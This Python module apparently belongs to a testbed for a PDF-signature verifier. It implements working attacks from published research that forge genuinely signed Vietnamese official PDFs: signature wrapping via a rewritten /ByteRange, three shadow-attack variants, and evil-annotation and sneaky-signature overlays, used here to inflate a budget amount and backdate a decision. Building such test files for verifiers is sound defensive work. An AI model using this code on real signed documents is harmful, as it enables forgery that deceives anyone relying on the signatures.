"""Attack documents built from genuinely signed PDFs: the PDF-signature attack families of the
literature, each as a real file that a verifier must see through.

Every attack keeps the victim's signature bytes as they are (the CMS, the digest, the
certificate are genuine); what changes is what the document *shows*. Three families:

* **Signature wrapping** (SWA; Mladenov et al. 2019, "1 Trillion Dollar Refund"):
  :func:`wrap_signature`. pyHanko, like most signers, writes ``/ByteRange`` *after*
  ``/Contents``, i.e. inside the second signed range. The attacker appends an incremental update
  carrying new page content and, hidden in an unused stream, a byte-exact copy of the second
  signed range; then the ``/ByteRange`` value is rewritten in place (same length) to point its
  second range at that copy. The signed bytes are still the signed bytes (the digest matches),
  but the new content lies in the gap between the two ranges. Only a verifier that checks that
  the ranges cover the whole revision except ``/Contents`` catches it.
* **Shadow attacks** (Mainka, Mladenov, Rohlmann 2021, "Shadow Attacks"): the attacker
  *authors* the document the victim signs (:func:`prepare_shadow`), with content that the
  signed version does not show, then changes what is shown in an incremental update made of
  objects a careless verifier considers harmless: ``hide`` (an opaque cover that hid a line is
  emptied: :func:`shadow_hide`), ``replace`` (a form XObject the page draws is replaced:
  :func:`shadow_replace`), ``hide-and-replace`` (a content stream that was in the signed file
  but drawn nowhere is added to the page's content array; the update holds no new content at
  all: :func:`shadow_hide_and_replace`).
* **Certification attacks** (Rohlmann et al. 2021, "Breaking the Specification: PDF
  Certification"): after a certification signature (DocMDP), the evil annotation attack
  (:func:`evil_annotation`: a FreeText annotation whose appearance covers the decision's date
  with another one) and the sneaky signature attack (:func:`sneaky_signature`: a new visible
  signature, made with the attacker's own throwaway certificate, whose appearance does the same).

Everything is written with pyHanko's :class:`IncrementalPdfFileWriter` and its generic objects;
the only byte-level edit is the in-place ``/ByteRange`` rewrite of the wrapping attack (through
:func:`testbed.documents.signed_byte_ranges`' pattern). The drawn texts are Vietnamese, with
DejaVu Sans embedded (:mod:`pdffonts.vietnamese`).
"""

from __future__ import annotations

import asyncio
import re
from datetime import UTC, datetime
from enum import StrEnum
from io import BytesIO
from typing import Any

from asn1crypto import keys as asn1_keys
from asn1crypto import x509 as asn1_x509
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.content import PdfResources, RawContent, ResourceType
from pyhanko.pdf_utils.generic import pdf_name, pdf_string
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.layout import (
    AxisAlignment,
    BoxConstraints,
    InnerScaling,
    Margins,
    SimpleBoxLayoutRule,
)
from pyhanko.sign import fields, signers
from pyhanko.sign.general import SigningError
from pyhanko.stamp import StaticStampStyle

from bilingual import say
from pdffonts import REGULAR_FONT, EmbeddedFont

from .documents import A4, MARGIN_LEFT, MARGIN_RIGHT, signed_byte_ranges
from .errors import InvalidInputError

Box = tuple[float, float, float, float]
"""(x1, y1, x2, y2) in PDF user space (points, origin at the bottom left of an A4 page)."""

SHADOW_BOX: Box = (MARGIN_LEFT, A4[1] - 40, A4[0] - MARGIN_RIGHT, A4[1] - 20)
"""The band above the header (above "ỦY BAN NHÂN DÂN ..."), blank in every generated document:
where shadow documents keep the line they hide or replace."""
DATE_BOX: Box = (252, A4[1] - 108, A4[0] - 10, A4[1] - 86)
"""The place-and-date line of the header's right column ("Đồng Tháp, ngày 22 tháng 11 năm
2026"), at the same place in every generated document: what the certification attacks cover."""

SIGNED_AMOUNT = "Kinh phí bổ sung: 9.000.000 đồng, chi từ ngân sách tỉnh."
"""What the replace-variant shadow document shows when it is signed."""
FORGED_AMOUNT = "Kinh phí bổ sung: 900.000.000 đồng, chi từ ngân sách tỉnh."
"""What the attacker makes a shadow document show after signing (and what the wrapping attack
adds)."""
FORGED_DATE = "Đồng Tháp, ngày 01 tháng 10 năm 2026"
"""What the certification attacks' overlays show over the decision's real date (a backdate)."""

_COVER = "KysoCover"
_AMOUNT = "KysoAmount"
_FONT = "FKysoAttack"
_SHADOW_MARKER = b"% kyso-shadow: drawn nowhere when signed\n"
_BYTE_RANGE = re.compile(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]\s*")
"""The pattern of :func:`testbed.documents.signed_byte_ranges`, with the padding after it (the
room a rewritten value may take)."""


class ShadowVariant(StrEnum):
    """The three shadow-attack classes of Mainka et al. 2021."""

    HIDE = "hide"
    REPLACE = "replace"
    HIDE_AND_REPLACE = "hide-and-replace"


# ---- drawing -----------------------------------------------------------------------------------
def _text_operators(font: EmbeddedFont, text: str, box: Box, *, size: float,
                    opaque: bool) -> bytes:
    """Operators drawing ``text`` centred in a box of the box's size at the origin, on an
    opaque white background if asked (what hides whatever lies beneath)."""
    width, height = box[2] - box[0], box[3] - box[1]
    shown = min(size, size * (width - 4) / max(font.width(text, size), 1.0))
    x = (width - font.width(text, shown)) / 2
    y = (height - shown * 0.7) / 2
    background = f"1 g 0 0 {width:.2f} {height:.2f} re f ".encode() if opaque else b""
    return (background + f"BT /{_FONT} {shown:.2f} Tf 0 g {x:.2f} {y:.2f} Td ".encode()
            + font.show(text, shown) + b" ET")


def _form(box: Box, text: str | None = None, font: EmbeddedFont | None = None, *,
          opaque: bool = True, size: float = 10) -> Any:
    """A form XObject of the box's size: an opaque white rectangle (or nothing), and ``text``
    on it in ``font`` (a font with no glyph used cannot be written: no text, no font)."""
    resources = PdfResources()
    operators = b"1 g 0 0 %.2f %.2f re f" % (box[2] - box[0], box[3] - box[1]) if opaque \
        else b""
    if text is not None and font is not None:
        resources[ResourceType.FONT][pdf_name("/" + _FONT)] = font.resource()
        operators = _text_operators(font, text, box, size=size, opaque=opaque)
    content = RawContent(operators, resources=resources,
                         box=BoxConstraints(width=box[2] - box[0], height=box[3] - box[1]))
    return content.as_form_xobject()


def _placed(name: str, box: Box) -> bytes:
    """Operators drawing the form XObject ``name`` at the box's lower-left corner."""
    return f"q 1 0 0 1 {box[0]:.2f} {box[1]:.2f} cm /{name} Do Q".encode()


def _writer(pdf: bytes) -> Any:
    try:
        return IncrementalPdfFileWriter(BytesIO(pdf), strict=False)
    except Exception as error:  # noqa: BLE001 (pyHanko raises many kinds on a broken file)
        raise InvalidInputError(say(f"document: không đọc được tệp PDF ({error})",
                                    f"document: not a readable PDF ({error})")) from None


def _written(writer: Any) -> bytes:
    output = BytesIO()
    writer.write(output)
    return output.getvalue()


def _add_to_page(writer: Any, operators: bytes, resources: Any) -> None:
    stream = writer.add_object(generic.StreamObject(stream_data=operators))
    writer.add_stream_to_page(0, stream, resources=resources)


def _xobject_resources(**xobjects: Any) -> Any:
    resources = PdfResources()
    for name, reference in xobjects.items():
        resources[ResourceType.XOBJECT][pdf_name("/" + name)] = reference
    return resources.as_pdf_object()


def _page_xobject(writer: Any, name: str) -> Any:
    """The indirect reference of the first page's form XObject ``name``."""
    _, resources = writer.find_page_for_modification(0)
    try:
        reference = resources.get_object()["/XObject"].raw_get("/" + name)
    except (KeyError, AttributeError):
        raise InvalidInputError(say(
            f"document: trang 1 không có XObject /{name}; tài liệu không được chuẩn bị làm "
            "tài liệu bóng (shadow) loại đó",
            f"document: page 1 has no XObject /{name}; it was not prepared as a shadow "
            "document of that kind")) from None
    return reference


def _overwrite(writer: Any, reference: Any, replacement: Any) -> None:
    """A new version of an existing object, same number, in this update (pyHanko's
    ``mark_update`` registers the object as read; the writer's table then takes the new one)."""
    writer.mark_update(reference)
    writer.objects[(reference.generation, reference.idnum)] = replacement


# ---- signature wrapping ------------------------------------------------------------------------
def wrap_signature(pdf: bytes, text: str = FORGED_AMOUNT, *, signature: int = -1) -> bytes:
    """Signature wrapping (see the module doc): new content in the gap between the two signed
    ranges, the second range moved to a copy of itself. Digest and CMS stay valid."""
    ranges = signed_byte_ranges(pdf)
    if not ranges:
        raise InvalidInputError(say("document: không có /ByteRange; tài liệu chưa được ký",
                                    "document: no /ByteRange; it is not signed"))
    try:
        start1, length1, start2, length2 = ranges[signature]
        match = list(_BYTE_RANGE.finditer(pdf))[signature]
    except IndexError:
        raise InvalidInputError(say(
            f"signature: chỉ số {signature}, tệp chỉ có {len(ranges)} chữ ký",
            f"signature: index {signature}, the file has {len(ranges)}")) from None
    if start1 != 0 or not start2 <= match.start() < start2 + length2:
        raise InvalidInputError(say(
            "document: /ByteRange của chữ ký không nằm trong vùng được ký thứ hai; ghi lại nó "
            "sẽ làm thay đổi các byte đã ký",
            "document: the signature's /ByteRange is not inside its second signed range; "
            "rewriting it would change the signed bytes"))
    second = pdf[start2:start2 + length2]

    writer = _writer(pdf)
    font = EmbeddedFont(writer, REGULAR_FONT)
    content = writer.add_object(_form(SHADOW_BOX, text, font))
    _add_to_page(writer, _placed(_COVER, SHADOW_BOX), _xobject_resources(**{_COVER: content}))
    # the relocated copy: raw stream data (no filter), so its bytes appear verbatim
    writer.add_object(generic.StreamObject(stream_data=second))
    wrapped = _written(writer)
    moved = wrapped.find(second, len(pdf))
    if moved < 0:  # pragma: no cover - pyHanko writes unfiltered stream data verbatim
        raise InvalidInputError(say(
            "document: vùng được ký sau khi dời chỗ không được ghi nguyên văn",
            "document: the relocated signed range was not written verbatim"))
    rewritten = f"/ByteRange [0 {length1} {moved} {length2}]".encode()
    original = match.group(0)
    if len(rewritten) > len(original):
        raise InvalidInputError(say("document: không đủ chỗ để ghi lại /ByteRange tại chỗ",
                                    "document: no room to rewrite /ByteRange in place"))
    return (wrapped[:match.start()] + rewritten.ljust(len(original), b" ")
            + wrapped[match.end():])


# ---- shadow attacks ----------------------------------------------------------------------------
def prepare_shadow(pdf: bytes, variant: ShadowVariant | str) -> bytes:
    """The document as the attacker hands it over for signing (unsigned), ready for the shadow
    attack ``variant``; what it shows is the document plus, for ``replace`` only, one line.

    * hide: :data:`FORGED_AMOUNT` drawn in :data:`SHADOW_BOX`, under an opaque white cover
      (form XObject ``/KysoCover``) drawn over it;
    * replace: :data:`SIGNED_AMOUNT` drawn there as form XObject ``/KysoAmount``;
    * hide-and-replace: a content stream drawing :data:`FORGED_AMOUNT` there, in the file but
      in no page's content array (its font is in the page's resources, unused).
    """
    variant = _variant(variant)
    writer = _writer(pdf)
    font = EmbeddedFont(writer, REGULAR_FONT)
    if variant is ShadowVariant.HIDE:
        hidden = writer.add_object(_form(SHADOW_BOX, FORGED_AMOUNT, font))
        cover = writer.add_object(_form(SHADOW_BOX))
        _add_to_page(writer, _placed(_AMOUNT, SHADOW_BOX) + b" " + _placed(_COVER, SHADOW_BOX),
                     _xobject_resources(**{_AMOUNT: hidden, _COVER: cover}))
    elif variant is ShadowVariant.REPLACE:
        amount = writer.add_object(_form(SHADOW_BOX, SIGNED_AMOUNT, font))
        _add_to_page(writer, _placed(_AMOUNT, SHADOW_BOX), _xobject_resources(**{_AMOUNT: amount}))
    else:
        operators = _text_operators(font, FORGED_AMOUNT, SHADOW_BOX, size=10, opaque=True)
        writer.add_object(generic.StreamObject(stream_data=(
            _SHADOW_MARKER + f"q 1 0 0 1 {SHADOW_BOX[0]:.2f} {SHADOW_BOX[1]:.2f} cm ".encode()
            + operators + b" Q")))
        resources = PdfResources()
        resources[ResourceType.FONT][pdf_name("/" + _FONT)] = font.resource()
        _, page_resources = writer.find_page_for_modification(0)
        if writer.merge_resources(page_resources.get_object(), resources.as_pdf_object()):
            writer.update_container(page_resources.get_object())
    return _written(writer)


def shadow_hide(pdf: bytes) -> bytes:
    """Hide: the signed cover ``/KysoCover`` becomes an empty form; the line it hid shows."""
    writer = _writer(pdf)
    cover = _page_xobject(writer, _COVER)
    _overwrite(writer, cover, _form(SHADOW_BOX, opaque=False))
    return _written(writer)


def shadow_replace(pdf: bytes, text: str = FORGED_AMOUNT) -> bytes:
    """Replace: the signed form XObject ``/KysoAmount`` is replaced by one drawing ``text``."""
    writer = _writer(pdf)
    amount = _page_xobject(writer, _AMOUNT)
    font = EmbeddedFont(writer, REGULAR_FONT)
    _overwrite(writer, amount, _form(SHADOW_BOX, text, font))
    return _written(writer)


def shadow_hide_and_replace(pdf: bytes) -> bytes:
    """Hide-and-replace: the content stream that was signed but drawn nowhere is appended to
    the first page's content array. The update writes no new content, only references."""
    writer = _writer(pdf)
    hidden = _hidden_stream(writer)
    writer.add_stream_to_page(0, hidden)
    return _written(writer)


def _hidden_stream(writer: Any) -> Any:
    reader = writer.prev
    xrefs = reader.xrefs
    for revision in range(xrefs.total_revisions):
        for reference in sorted(xrefs.explicit_refs_in_revision(revision),
                                key=lambda ref: ref.idnum):
            try:
                candidate = reader.get_object(reference)
            except Exception:  # noqa: BLE001, S112 (an unreadable object is not the one sought)
                continue
            if isinstance(candidate, generic.StreamObject) and \
                    candidate.data.startswith(_SHADOW_MARKER):
                return generic.IndirectObject(reference.idnum, reference.generation, reader)
    raise InvalidInputError(say(
        "document: không có luồng nội dung ẩn; tài liệu không được chuẩn bị làm tài liệu bóng "
        "kiểu hide-and-replace",
        "document: no hidden content stream; it was not prepared as a hide-and-replace shadow "
        "document"))


def _variant(value: ShadowVariant | str) -> ShadowVariant:
    try:
        return ShadowVariant(value)
    except ValueError:
        allowed = ", ".join(v.value for v in ShadowVariant)
        raise InvalidInputError(say(f"variant: '{value}' không phải một trong {allowed}",
                                    f"variant: '{value}' is not one of {allowed}")) from None


# ---- certification attacks ---------------------------------------------------------------------
def evil_annotation(pdf: bytes, text: str = FORGED_DATE, *, box: Box = DATE_BOX) -> bytes:
    """Evil annotation attack: a FreeText annotation on page 1 whose appearance (an opaque box
    with ``text``) covers the decision's date. Permitted after a certification only at P=3."""
    writer = _writer(pdf)
    font = EmbeddedFont(writer, REGULAR_FONT)
    appearance = writer.add_object(_form(box, text, font))
    page_ref, _ = writer.find_page_for_modification(0)
    annotation = writer.add_object(generic.DictionaryObject({
        pdf_name("/Type"): pdf_name("/Annot"),
        pdf_name("/Subtype"): pdf_name("/FreeText"),
        pdf_name("/Rect"): generic.ArrayObject([generic.FloatObject(v) for v in box]),
        pdf_name("/Contents"): pdf_string(text),
        pdf_name("/DA"): pdf_string("/Helv 10 Tf 0 g"),
        pdf_name("/F"): generic.NumberObject(4),
        pdf_name("/P"): page_ref,
        pdf_name("/AP"): generic.DictionaryObject({pdf_name("/N"): appearance}),
    }))
    _append_annotation(writer, page_ref, annotation)
    return _written(writer)


def _append_annotation(writer: Any, page_ref: Any, annotation: Any) -> None:
    page = page_ref.get_object()
    annotations = page.raw_get("/Annots") if "/Annots" in page else None
    if isinstance(annotations, generic.IndirectObject):
        annotations.get_object().append(annotation)
        writer.mark_update(annotations)
        return
    items = list(annotations) if annotations is not None else []
    page[pdf_name("/Annots")] = generic.ArrayObject([*items, annotation])
    writer.mark_update(page_ref)


ATTACKER_NAME = "Kẻ giả mạo (TEST, tự ký)"
"""The common name of the throwaway, self-signed certificate the sneaky signature is made with:
anybody can make one; the overlay is what the attack is about."""


def sneaky_signature(pdf: bytes, text: str = FORGED_DATE, *, box: Box = DATE_BOX,
                     field_name: str = "KysoSneaky") -> bytes:
    """Sneaky signature attack: a new visible signature field over the decision's date, signed
    with a throwaway self-signed key, whose appearance is an opaque box with ``text``. Signing
    is permitted after a certification at P=2 and P=3; the appearance is the attack."""
    writer = _writer(pdf)
    font = EmbeddedFont(writer, REGULAR_FONT)
    resources = PdfResources()
    resources[ResourceType.FONT][pdf_name("/" + _FONT)] = font.resource()
    overlay = RawContent(_text_operators(font, text, box, size=10, opaque=True),
                         resources=resources,
                         box=BoxConstraints(width=box[2] - box[0], height=box[3] - box[1]))
    # the overlay fills the field's box exactly: no margin, no scaling, no border
    style = StaticStampStyle(background=overlay, border_width=0, background_opacity=1.0,
                             background_layout=SimpleBoxLayoutRule(
                                 x_align=AxisAlignment.ALIGN_MIN,
                                 y_align=AxisAlignment.ALIGN_MIN, margins=Margins(),
                                 inner_content_scaling=InnerScaling.NO_SCALING))
    metadata = signers.PdfSignatureMetadata(field_name=field_name,
                                            subfilter=fields.SigSeedSubFilter.PADES)
    signer = _throwaway_signer()
    pdf_signer = signers.PdfSigner(metadata, signer=signer, stamp_style=style,
                                   new_field_spec=fields.SigFieldSpec(
                                       field_name, on_page=0, box=tuple(int(v) for v in box)))
    output = BytesIO()
    try:
        asyncio.run(pdf_signer.async_sign_pdf(writer, output=output))
    except SigningError as error:  # e.g. a certification with P=1 forbids any signature
        raise InvalidInputError(say(f"document: không thêm được chữ ký ({error})",
                                    f"document: cannot add a signature ({error})")) from None
    return output.getvalue()


def _throwaway_signer() -> Any:
    """A SimpleSigner over a fresh P-256 key and a self-signed certificate naming
    :data:`ATTACKER_NAME`, trusted by nobody (its validity is wide and fixed: the attack needs
    no clock)."""
    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, ATTACKER_NAME)])
    certificate = (x509.CertificateBuilder().subject_name(name).issuer_name(name)
                   .public_key(key.public_key()).serial_number(x509.random_serial_number())
                   .not_valid_before(datetime(2020, 1, 1, tzinfo=UTC))
                   .not_valid_after(datetime(2099, 12, 31, tzinfo=UTC))
                   .add_extension(x509.KeyUsage(
                       digital_signature=True, content_commitment=True, key_encipherment=False,
                       data_encipherment=False, key_agreement=False, key_cert_sign=False,
                       crl_sign=False, encipher_only=False, decipher_only=False), critical=True)
                   .sign(key, hashes.SHA256()))
    key_info = asn1_keys.PrivateKeyInfo.load(key.private_bytes(
        serialization.Encoding.DER, serialization.PrivateFormat.PKCS8,
        serialization.NoEncryption()))
    return signers.SimpleSigner(
        signing_cert=asn1_x509.Certificate.load(
            certificate.public_bytes(serialization.Encoding.DER)),
        signing_key=key_info, cert_registry=None)


__all__ = [
    "ATTACKER_NAME", "DATE_BOX", "FORGED_AMOUNT", "FORGED_DATE", "SHADOW_BOX", "SIGNED_AMOUNT",
    "ShadowVariant", "evil_annotation", "prepare_shadow", "shadow_hide",
    "shadow_hide_and_replace", "shadow_replace", "sneaky_signature", "wrap_signature",
]
